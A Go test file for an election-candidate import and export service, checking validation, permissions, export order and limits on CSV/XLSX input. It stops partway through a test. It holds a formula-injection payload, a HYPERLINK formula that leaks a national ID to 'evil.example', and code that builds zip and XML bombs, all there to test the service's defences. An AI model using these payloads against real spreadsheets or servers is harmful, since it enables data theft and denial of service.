package server

import (
	"archive/zip"
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"image"
	"image/png"
	"io"
	"maps"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"regexp"
	"runtime"
	"runtime/debug"
	"runtime/metrics"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/setad/setad/internal/i18n"
	"github.com/setad/setad/internal/persian"
)

// upload posts a file to the import as a browser would.
func (a *testApp) upload(c *http.Client, name string, data []byte, fields ...string) response {
	a.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = mw.WriteField(fields[i], fields[i+1])
	}
	if data != nil {
		fw, _ := mw.CreateFormFile("file", name)
		_, _ = fw.Write(data)
	}
	_ = mw.Close()
	req, _ := http.NewRequest(http.MethodPost, a.srv.URL+"/candidates/import", &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	res, err := c.Do(req)
	if err != nil {
		a.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return response{status: res.StatusCode, header: res.Header, body: string(b)}
}

var confirmID = regexp.MustCompile(`name="import" value="(\d+)"`)

const importHeader = "full_name,father_name,national_id,gender,birth_date,education,occupation,constituency,phone,tracking_id,veteran,military_service,listed_post,certificate_date,resignation_date\n"

func TestCandidateImport(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	file := "\uFEFF" + importHeader +
		"علي كاظمي,حسن," + persian.ToPersianDigits(nid(11)) + ",female,۱۳۶۸/۰۲/۰۱,bachelor,معلم,marvdasht,,,0,,0,۱۴۰۵/۰۸/۲۰,\n" +
		"مریم نوری,رضا," + nid(12) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n" +
		"تکراری,رضا," + nid(12) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n" +
		"نادرست,رضا,0012345670,female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n" +
		"بیرون,رضا," + nid(13) + ",female,1365/11/01,master,,pasargad,,,,,,1405/08/25,\n"
	res := a.upload(gov, "candidates.csv", []byte(file))
	if res.status != http.StatusOK {
		t.Fatalf("preview: %d\n%s", res.status, res.body)
	}
	mustContain(t, res.body, "۲ ردیف آماده ورود و ۳ ردیف رد شده", "در سطر ۳ همین فایل هم آمده است", "کد ملی معتبر نیست", "حوزه انتخابیه را از فهرست انتخاب کنید")
	if n := a.count(`SELECT count(*) FROM candidates`); n != 0 {
		t.Fatal("a preview registered candidates")
	}
	m := confirmID.FindStringSubmatch(res.body)
	if m == nil {
		t.Fatal("no confirmation form")
	}
	// The rejected rows come back as a file to fix.
	rejected := a.get(gov, "/candidates/import/"+m[1]+"/rejected.csv")
	if rejected.status != 200 || !strings.HasPrefix(rejected.body, "\uFEFF") || strings.Count(rejected.body, "\n") != 4 {
		t.Fatalf("rejected file: %d\n%s", rejected.status, rejected.body)
	}
	// Another user cannot confirm or read it.
	if res := a.upload(a.login("hq.fars"), "", nil, "import", m[1], "confirm", "yes"); res.status != http.StatusNotFound {
		t.Fatalf("confirming another user's import: %d", res.status)
	}
	if res := a.upload(gov, "", nil, "import", m[1], "confirm", "yes"); res.status != http.StatusSeeOther {
		t.Fatalf("confirm: %d\n%s", res.status, res.body)
	}
	if n := a.count(`SELECT count(*) FROM candidates WHERE name_norm = 'علیکاظمی' AND national_id = $1`, nid(11)); n != 1 {
		t.Fatal("the Arabic-lettered, Persian-digit row was not imported normalised")
	}
	if n := a.count(`SELECT count(*) FROM candidates`); n != 2 {
		t.Fatalf("%d candidates after the import, want 2", n)
	}
	if n := a.count(`SELECT count(*) FROM audit_log WHERE action = 'candidate.import'`); n != 1 {
		t.Error("the import is not audited")
	}
	// Confirming twice does nothing; importing the same file again adds nothing.
	if res := a.upload(gov, "", nil, "import", m[1], "confirm", "yes"); res.status != http.StatusConflict {
		t.Fatalf("second confirm: %d", res.status)
	}
	again := a.upload(gov, "candidates.csv", []byte(file))
	mustContain(t, again.body, "۰ ردیف آماده ورود و ۵ ردیف رد شده", "پیش‌تر در مرودشت ثبت‌نام کرده است")
	if n := a.count(`SELECT count(*) FROM candidates`); n != 2 {
		t.Fatal("a re-import added candidates")
	}
}

// A row registered elsewhere between the preview and the confirmation refuses the whole file.
func TestCandidateImportIsAllOrNothing(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	file := importHeader +
		"الف,ب," + nid(21) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n" +
		"پ,ت," + nid(22) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"
	res := a.upload(gov, "c.csv", []byte(file))
	m := confirmID.FindStringSubmatch(res.body)
	if m == nil {
		t.Fatalf("no preview:\n%s", res.body)
	}
	if res := a.post(a.login("hq.fars"), "/candidates", candidateForm("پ", nid(22), "beyza")); res.status != http.StatusSeeOther {
		t.Fatalf("register meanwhile: %d", res.status)
	}
	res = a.upload(gov, "", nil, "import", m[1], "confirm", "yes")
	if res.status != http.StatusConflict {
		t.Fatalf("stale confirm: %d", res.status)
	}
	mustContain(t, res.body, "هیچ ردیفی ثبت نشد")
	if n := a.count(`SELECT count(*) FROM candidates WHERE national_id = $1`, nid(21)); n != 0 {
		t.Fatal("part of a refused file was imported")
	}
}

func TestCandidateExportRoundTrip(t *testing.T) {
	a := newTestApp(t)
	now := time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)
	a.s.now = func() time.Time { return now }
	a.withElection()
	gov := a.login("gov.marvdasht")
	a.post(gov, "/candidates", candidateForm("علی رضایی", nid(31), "marvdasht"))
	now = villageRegistration // the villages register in a window of their own
	a.post(gov, "/candidates", candidateForm("سارا احمدی", nid(32), "marvdasht-central"))
	now = time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)
	csvFile := a.get(gov, "/candidates.csv?sort=name&format=import")
	if csvFile.status != 200 || !strings.HasPrefix(csvFile.body, "\uFEFFfull_name,") || !strings.Contains(csvFile.header.Get("Content-Disposition"), ".csv") {
		t.Fatalf("csv: %d %q", csvFile.status, csvFile.body[:min(80, len(csvFile.body))])
	}
	mustContain(t, csvFile.body, "علی رضایی", nid(31), "marvdasht-central", "1370/01/15")
	// The same filters as the list.
	if filtered := a.get(gov, "/candidates.csv?q="+url.QueryEscape("سارا")).body; strings.Contains(filtered, "علی رضایی") {
		t.Error("the export ignores the search")
	}
	// Importing the export finds only duplicates.
	res := a.upload(gov, "candidates.csv", []byte(csvFile.body))
	mustContain(t, res.body, "۰ ردیف آماده ورود و ۲ ردیف رد شده", "پیش‌تر در مرودشت ثبت‌نام کرده است")

	xlsx := a.get(gov, "/candidates.xlsx?format=import")
	if xlsx.status != 200 {
		t.Fatalf("xlsx: %d", xlsx.status)
	}
	x, err := excelize.OpenReader(strings.NewReader(xlsx.body))
	if err != nil {
		t.Fatal(err)
	}
	sheet := x.GetSheetName(0)
	view, err := x.GetSheetView(sheet, 0)
	if err != nil || view.RightToLeft == nil || !*view.RightToLeft {
		t.Error("the sheet is not right-to-left")
	}
	rows, _ := x.GetRows(sheet)
	if len(rows) != 3 || rows[0][0] != "full_name" {
		t.Fatalf("xlsx rows: %v", rows)
	}
	res = a.upload(gov, "candidates.xlsx", []byte(xlsx.body))
	mustContain(t, res.body, "۰ ردیف آماده ورود و ۲ ردیف رد شده")
	// Another county's governor exports nothing of Marvdasht.
	if body := a.get(a.login("gov.pasargad"), "/candidates.csv?format=import").body; strings.Contains(body, nid(31)) {
		t.Error("the export leaks another county's candidates")
	}
}

// exportNames reads a CSV export with encoding/csv and returns its full_name column.
func exportNames(t *testing.T, body string) []string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v", err)
	}
	var names []string
	for _, rec := range records[1:] {
		names = append(names, rec[0])
	}
	return names
}

// The export follows the list's order: the names go in in an order that is neither their alphabetical
// order nor its reverse, so that an export ignoring the order (or using another) cannot pass.
func TestCandidateExportOrder(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	for i, name := range []string{"بهرام کاظمی", "آرش نوری", "پریا احمدی"} {
		if res := a.post(gov, "/candidates", candidateForm(name, nid(41+i), "marvdasht")); res.status != http.StatusSeeOther {
			t.Fatalf("register %s: %d", name, res.status)
		}
	}
	for _, tt := range []struct {
		sort string
		want []string
	}{
		{"name", []string{"آرش نوری", "بهرام کاظمی", "پریا احمدی"}},
		{"registered", []string{"پریا احمدی", "آرش نوری", "بهرام کاظمی"}},
		{"", []string{"پریا احمدی", "آرش نوری", "بهرام کاظمی"}}, // the list's default: newest first
	} {
		if got := exportNames(t, a.get(gov, "/candidates.csv?sort="+tt.sort).body); !slices.Equal(got, tt.want) {
			t.Errorf("sort=%q exports %v, want %v", tt.sort, got, tt.want)
		}
	}
}

// Exports carry everyone's national ID, birth date and phone: only HQ and governors, in their scope,
// may have them; the list shows the links to them alone.
func TestCandidateExportPermissions(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	if res := a.post(a.login("gov.marvdasht"), "/candidates", candidateForm("علی رضایی", nid(51), "marvdasht")); res.status != http.StatusSeeOther {
		t.Fatalf("register: %d", res.status)
	}
	for _, tt := range []struct {
		user string
		want int
	}{
		{"hq.fars", http.StatusOK},
		{"gov.marvdasht", http.StatusOK},
		{"dh.marvdasht", http.StatusForbidden},
		{"committee", http.StatusForbidden},
		{"observer", http.StatusForbidden},
		{"national", http.StatusForbidden},
	} {
		c := a.login(tt.user)
		for _, ext := range []string{"csv", "xlsx"} {
			res := a.get(c, "/candidates."+ext+"?format=import")
			if res.status != tt.want {
				t.Errorf("%s /candidates.%s: %d, want %d", tt.user, ext, res.status, tt.want)
				continue
			}
			if tt.want == http.StatusForbidden {
				mustNotContain(t, res.body, nid(51))
				continue
			}
			if ext == "csv" {
				mustContain(t, res.body, nid(51), "1370/01/15", "09171234567")
			} else if x, err := excelize.OpenReader(strings.NewReader(res.body)); err != nil {
				t.Errorf("%s xlsx: %v", tt.user, err)
			} else if v, _ := x.GetCellValue(x.GetSheetName(0), "C2"); v != nid(51) {
				t.Errorf("%s xlsx national ID: %q", tt.user, v)
			}
		}
		list := a.get(c, "/candidates").body
		if shown := strings.Contains(list, "/candidates.csv") && strings.Contains(list, "/candidates.xlsx"); shown != (tt.want == http.StatusOK) {
			t.Errorf("%s sees the export links: %v", tt.user, shown)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"علی رضایی", "علی رضایی"},
		{"0012345679", "0012345679"}, // a national ID: digits, left alone
		{"1370/01/15", "1370/01/15"},
		{"marvdasht-central", "marvdasht-central"},
		{"a=b", "a=b"},
		{`=HYPERLINK("http://x.example","y")`, `'=HYPERLINK("http://x.example","y")`},
		{"+98 917 123 4567", "'+98 917 123 4567"}, // a phone too: the import takes the apostrophe off again
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"'=1", "''=1"}, // one apostrophe for the spreadsheet, one that stays
		{"'a", "'a"},
	} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
		// What the export neutralised imports back as it was.
		if back, ok := importCell(csvCell(tt.in)); ok && !strings.ContainsAny(tt.in, "\t\r") && back != tt.in {
			t.Errorf("importCell(csvCell(%q)) = %q", tt.in, back)
		}
	}
}

// A name a spreadsheet would run as a formula leaves the portal as text, in every CSV it writes, and as
// an inline string in the XLSX.
func TestCandidateExportNeutralisesFormulas(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&C2,"Click")`
	f := candidateForm(hyperlink, nid(61), "marvdasht")
	f.Set("father_name", "@SUM(1+1)")
	f.Set("phone", "+989171234567")
	if res := a.post(gov, "/candidates", f); res.status != http.StatusSeeOther {
		t.Fatalf("register: %d\n%s", res.status, res.body)
	}
	if res := a.post(gov, "/candidates", candidateForm("－1+1 رضا", nid(62), "marvdasht")); res.status != http.StatusSeeOther {
		t.Fatalf("register: %d", res.status)
	}
	export := a.get(a.login("hq.fars"), "/candidates.csv?sort=name&format=import").body
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(export, "\uFEFF"))).ReadAll()
	if err != nil || len(records) != 3 {
		t.Fatalf("export: %v %v", err, records)
	}
	want := map[string][]string{nid(61): {"'" + hyperlink, "'@SUM(1+1)", nid(61), "09171234567"},
		nid(62): {"'－1+1 رضا", "حسن", nid(62), "09171234567"}}
	for _, rec := range records[1:] {
		if got := []string{rec[0], rec[1], rec[2], rec[8]}; !slices.Equal(got, want[rec[2]]) {
			t.Errorf("exported %q, want %q", got, want[rec[2]])
		}
	}
	// The export imports back: only duplicates, no phone or name refused for its apostrophe.
	res := a.upload(gov, "candidates.csv", []byte(export))
	mustContain(t, res.body, "۰ ردیف آماده ورود و ۲ ردیف رد شده", "پیش‌تر در مرودشت ثبت‌نام کرده است")
	mustNotContain(t, res.body, "شماره تلفن")

	// rejected.csv: the rows come back as typed, neutralised.
	file := importHeader + "=1+2,@x," + nid(63) + ",female,1365/11/01,master,,nowhere,-5,,,,,1405/08/25,\n"
	res = a.upload(gov, "c.csv", []byte(file))
	m := confirmID.FindStringSubmatch(res.body)
	id := regexp.MustCompile(`/candidates/import/(\d+)/rejected.csv`).FindStringSubmatch(res.body)
	if m != nil || id == nil {
		t.Fatalf("preview:\n%s", res.body)
	}
	rejected := a.get(gov, "/candidates/import/"+id[1]+"/rejected.csv").body
	records, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(rejected, "\uFEFF"))).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("rejected.csv: %v %q", err, rejected)
	}
	if got := []string{records[1][0], records[1][1], records[1][2], records[1][8]}; !slices.Equal(got, []string{"'=1+2", "'@x", nid(63), "'-5"}) {
		t.Errorf("rejected.csv row: %q", got)
	}

	// The XLSX holds the name as an inline string, never a formula.
	xlsx := a.get(gov, "/candidates.xlsx?sort=name").body
	z, err := zip.NewReader(strings.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	var sheet []byte
	for _, zf := range z.File {
		if zf.Name == "xl/worksheets/sheet1.xml" {
			rc, _ := zf.Open()
			sheet, _ = io.ReadAll(rc)
			rc.Close()
		}
	}
	if bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
		t.Error("the XLSX holds a formula")
	}
	if !bytes.Contains(sheet, []byte(`t="inlineStr"><is><t>=HYPERLINK(`)) {
		t.Errorf("the name is not an inline string:\n%s", sheet[:min(len(sheet), 2000)])
	}
}

// multipartFile is a multipart body holding one file, as a browser sends it.
func multipartFile(name string, data []byte) ([]byte, string) {
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	fw, _ := mw.CreateFormFile("file", name)
	_, _ = fw.Write(data)
	_ = mw.Close()
	return body.Bytes(), mw.FormDataContentType()
}

// serveImport posts a prepared body to the import in-process, signed in as c, and returns the response
// and the bytes allocated while the handler ran: TotalAlloc counts every allocation, so it bounds the
// peak the request added to the heap. A chunked body has no Content-Length to refuse it by.
func (a *testApp) serveImport(c *http.Client, body []byte, contentType string, chunked bool) (*httptest.ResponseRecorder, uint64) {
	a.t.Helper()
	u, _ := url.Parse(a.srv.URL)
	req := httptest.NewRequest(http.MethodPost, a.srv.URL+"/candidates/import", bytes.NewReader(body))
	if chunked {
		req.ContentLength, req.Body = -1, io.NopCloser(bytes.NewReader(body))
	}
	req.Header.Set("Content-Type", contentType)
	for _, ck := range c.Jar.Cookies(u) {
		req.AddCookie(ck)
	}
	rec := httptest.NewRecorder()
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	a.srv.Config.Handler.ServeHTTP(rec, req)
	runtime.ReadMemStats(&after)
	return rec, after.TotalAlloc - before.TotalAlloc
}

// xlsxParts builds a workbook by hand: a zip with the parts a reader needs around the first sheet's XML,
// which write produces, and any other parts.
func xlsxParts(t *testing.T, write func(io.Writer), other map[string]string) []byte {
	return xlsxPackage(t, "xl/worksheets/sheet1.xml", write, other, 0)
}

// xlsxPackage is xlsxParts with the sheet at any part name, which the workbook's relationship names as
// its target, and as many more empty parts, stored, as empty says.
func xlsxPackage(t *testing.T, sheet string, write func(io.Writer), other map[string]string, empty int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	parts := map[string]string{
		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/` + sheet + `" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
		"_rels/.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml": `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
			`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/` + sheet + `"/></Relationships>`,
	}
	maps.Copy(parts, other)
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		w, _ := zw.Create(name)
		_, _ = io.WriteString(w, parts[name])
	}
	w, _ := zw.Create(sheet)
	bw := bufio.NewWriterSize(w, 64<<10)
	_, _ = io.WriteString(bw, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	write(bw)
	_, _ = io.WriteString(bw, `</sheetData></worksheet>`)
	if err := bw.Flush(); err != nil {
		t.Fatal(err)
	}
	for i := range empty {
		if _, err := zw.CreateRaw(&zip.FileHeader{Name: strconv.FormatInt(int64(i), 36), Method: zip.Store}); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// xlsxRow is a sheet row of inline strings.
func xlsxRow(cells ...string) string {
	var b strings.Builder
	b.WriteString("<row>")
	for _, c := range cells {
		b.WriteString(`<c t="inlineStr"><is><t>` + c + `</t></is></c>`)
	}
	b.WriteString("</row>")
	return b.String()
}

var xlsxHeader = xlsxRow(strings.Split(strings.TrimSpace(importHeader), ",")...)

// The two bombs, and a few more shapes of the same idea: each is refused with its message while
// the handler allocates less than 64 MiB in all.
func TestCandidateImportMemoryBounded(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")

	// 10 MiB of tiny rows, just under the byte limit with the multipart framing: 5 million rows.
	var tiny bytes.Buffer
	tiny.WriteString(importHeader)
	for tiny.Len() < maxImportBytes-4096 {
		tiny.WriteString("a\n")
	}
	// About 110 MiB of sheet XML, deflated to a few hundred kilobytes.
	bomb := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader)
		row := xlsxRow("a")
		for range 110 << 20 / len(row) {
			_, _ = io.WriteString(w, row)
		}
	}, nil)
	// One 30 MiB text in a cell, within what the zip may unpack to.
	giant := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row><c t="inlineStr"><is><t>`)
		_, _ = io.WriteString(w, strings.Repeat("a", 30<<20))
		_, _ = io.WriteString(w, `</t></is></c></row>`)
	}, nil)
	// Elements nested a million deep keep an XML decoder's stack growing.
	deep := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+strings.Repeat("<x>", 1<<20)+strings.Repeat("</x>", 1<<20))
	}, nil)
	// Styles, which excelize unpacks and parses whole when it opens the file.
	styles := xlsxParts(t, func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader) },
		map[string]string{"xl/styles.xml": `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>` +
			strings.Repeat(`<xf numFmtId="0"/>`, 8<<20/18) + `</cellXfs></styleSheet>`})
	// The same, in parts whose names do not end in .xml: excelize reads the sheet the workbook's
	// relationship names, whatever its name, and streams it when its name starts as a sheet's does.
	deepBin := xlsxPackage(t, "xl/worksheets/sheet1.bin", func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row r="2">`+strings.Repeat("<x>", 4400000)+strings.Repeat("</x>", 4400000)+`</row>`)
	}, nil, 0)
	giantBin := xlsxPackage(t, "xl/worksheets/sheet1.bin", func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row><c t="inlineStr"><is><t>`+strings.Repeat("a", 30<<20)+`</t></is></c></row>`)
	}, nil, 0)
	deepData := xlsxPackage(t, "xl/data/s.bin", func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+strings.Repeat("<x>", 250000)+strings.Repeat("</x>", 250000))
	}, nil, 0)
	// What excelize decodes whole: a row's cells, a cell's formatted runs, a style sheet's elements.
	wide := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row>`+strings.Repeat(`<c><v>1</v></c>`, 2000000)+`</row>`)
	}, nil)
	// excelize gives a row every cell up to the next row's start tag, inside the row element or not.
	loose := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row/>`+strings.Repeat(`<c><v>1</v></c>`, 2000000))
	}, nil)
	runs := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row><c t="inlineStr"><is>`+strings.Repeat(`<r><t>a</t></r>`, 1900000)+`</is></c></row>`)
	}, nil)
	xfs := xlsxParts(t, func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader) },
		map[string]string{"xl/styles.xml": `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>` +
			strings.Repeat(`<xf/>`, 1900000/5) + `</cellXfs></styleSheet>`})
	// Blank rows are read like any other: 625,000 lines of commas, and a sheet whose one row is its last.
	var blank bytes.Buffer
	blank.WriteString(importHeader)
	for range 625000 {
		blank.WriteString(",,,,,,,,,,,,,,,\n")
	}
	lastRow := xlsxParts(t, func(w io.Writer) {
		_, _ = io.WriteString(w, xlsxHeader+`<row r="1048576"><c t="inlineStr"><is><t>x</t></is></c></row>`)
	}, nil)
	// A zip's directory is read whole, and excelize reads every part: 100,000 empty parts in 10 MB.
	parts := xlsxPackage(t, "xl/worksheets/sheet1.xml", func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader) }, nil, 100000)
	// A workbook linking 24,000 sheets: 3.5 MB of relationships, which excelize holds in memory.
	var rels strings.Builder
	rels.WriteString(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for i := range 24000 {
		fmt.Fprintf(&rels, `<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/xl/worksheets/sheet1.xml"/>`, i+1)
	}
	rels.WriteString(`</Relationships>`)
	manySheets := xlsxParts(t, func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader+xlsxRow("x")) },
		map[string]string{"xl/_rels/workbook.xml.rels": rels.String()})
	// One shared string more than allowed, in a table that is streamed.
	manyStrings := xlsxParts(t, func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader+xlsxRow("x")) },
		map[string]string{"xl/sharedStrings.xml": `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` +
			strings.Repeat(`<si><t>x</t></si>`, maxXLSXStrings+1) + `</sst>`})
	heldTooBig := "بخش‌هایی از این فایل Excel که یکجا در حافظه خوانده می‌شوند"
	// Each of the limits on what an XLSX unpacks to names its own cause, in both languages.
	for _, tt := range []struct {
		name   string
		data   []byte
		fa, en string
	}{
		{"unpacked", bomb, "پس از باز شدن از ۳۲ مگابایت بزرگ‌تر", "Unpacked, this Excel file is larger than 32 MB"},
		{"held", manySheets, "یکجا در حافظه خوانده می‌شوند", "read into memory at once (styles, the list of sheets and their links, small sheets) are larger than 2 MB"},
		{"shared strings", manyStrings, "بیش از ۲۰۰٬۰۰۰ متن گوناگون", "more than 200,000 different texts"},
	} {
		var fp *fileProblem
		if err := checkXLSX(bytes.NewReader(tt.data), int64(len(tt.data))); !errors.As(err, &fp) {
			t.Errorf("%s: %v", tt.name, err)
		} else if fa, en := fp.msg.In(i18n.Fa), fp.msg.In(i18n.En); !strings.Contains(fa, tt.fa) || !strings.Contains(en, tt.en) {
			t.Errorf("%s: %q, %q", tt.name, fa, en)
		}
	}
	t.Logf("bomb sizes: csv %d, xlsx %d (%d MiB of XML), giant cell %d, deep %d, styles %d, deep .bin %d, giant .bin %d, deep data %d, "+
		"wide %d, loose %d, runs %d, xfs %d, blank %d, last row %d, parts %d bytes", tiny.Len(), len(bomb), 110, len(giant), len(deep), len(styles),
		len(deepBin), len(giantBin), len(deepData), len(wide), len(loose), len(runs), len(xfs), blank.Len(), len(lastRow), len(parts))

	for _, tt := range []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"10 MiB CSV of tiny rows", "tiny.csv", tiny.Bytes(), "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد"},
		{"1 MiB XLSX of 110 MiB XML", "bomb.xlsx", bomb, "این فایل Excel پس از باز شدن از ۳۲ مگابایت بزرگ‌تر می‌شود"},
		{"XLSX with a 30 MiB cell", "giant.xlsx", giant, "فایل متنی بلندتر از ۱٬۰۰۰ نویسه در یک خانه دارد"},
		{"XLSX nested a million deep", "deep.xlsx", deep, "فایل خوانده نشد"},
		{"XLSX with 8 MiB of styles", "styles.xlsx", styles, heldTooBig},
		{"XLSX whose workbook links 24,000 sheets", "many-sheets.xlsx", manySheets, heldTooBig},
		{"XLSX of too many shared strings", "strings.xlsx", manyStrings, "این فایل Excel بیش از ۲۰۰٬۰۰۰ متن گوناگون دارد"},
		{"XLSX whose sheet.bin is nested 4.4 million deep", "deep-bin.xlsx", deepBin, "فایل خوانده نشد"},
		{"XLSX whose sheet.bin has a 30 MiB cell", "giant-bin.xlsx", giantBin, "فایل متنی بلندتر از ۱٬۰۰۰ نویسه در یک خانه دارد"},
		{"XLSX whose sheet is 1.75 MB nested in xl/data/s.bin", "deep-data.xlsx", deepData, "فایل خوانده نشد"},
		{"XLSX with a row of 2 million cells", "wide.xlsx", wide, "سطر ۲ بیش از ۵۰ ستون یا خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
		{"XLSX with 2 million cells after an empty row", "loose.xlsx", loose, "سطر ۲ بیش از ۵۰ ستون یا خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
		{"XLSX with a cell of 1.9 million runs", "runs.xlsx", runs, "سطر ۲ بیش از ۵۰ ستون یا خانه‌ای بلندتر از ۱٬۰۰۰ نویسه دارد"},
		{"XLSX with 380,000 cell formats", "xfs.xlsx", xfs, "ساختار این فایل Excel (قالب‌بندی‌ها و دیگر بخش‌هایش) بیش از اندازه بزرگ است"},
		{"10 MB CSV of blank rows", "blank.csv", blank.Bytes(), "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد؛ ردیف‌های خالی هم شمرده می‌شوند"},
		{"XLSX whose one row is its last", "last.xlsx", lastRow, "هر فایل حداکثر ۲۰٬۰۰۰ ردیف دارد؛ ردیف‌های خالی هم شمرده می‌شوند"},
		{"XLSX of 100,000 parts", "parts.xlsx", parts, "این فایل Excel بیش از ۱٬۰۰۰ بخش دارد"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			body, ct := multipartFile(tt.file, tt.data)
			rec, alloc := a.serveImport(gov, body, ct, false)
			t.Logf("%s: %d, %.1f MiB allocated", tt.name, rec.Code, float64(alloc)/(1<<20))
			if rec.Code != http.StatusUnprocessableEntity {
				t.Fatalf("status %d", rec.Code)
			}
